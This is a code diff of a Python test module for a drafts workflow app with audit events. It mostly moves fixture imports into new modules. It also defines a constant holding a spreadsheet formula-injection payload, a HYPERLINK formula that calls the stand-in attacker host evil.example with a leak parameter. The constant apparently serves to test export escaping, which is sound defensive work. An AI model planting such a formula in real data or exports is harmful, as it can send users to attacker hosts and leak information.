@@ -22,8 +22,9 @@ from app.audit.models import AuditEvent
 from app.drafts.models import Draft
 from app.drafts.workflow import Action
 from app.extensions import db
-from tests.conftest import T0, make_user
-from tests.test_workflow import act, edit, person, start
+from tests.fixtures.app import T0
+from tests.fixtures.users import make_user
+from tests.fixtures.workflow import act, edit, person, start
 
 #: A reviewer's comment that a spreadsheet would run as a formula if given the chance.
 FORMULA = '=HYPERLINK("https://evil.example/?leak=1","Open the order")'
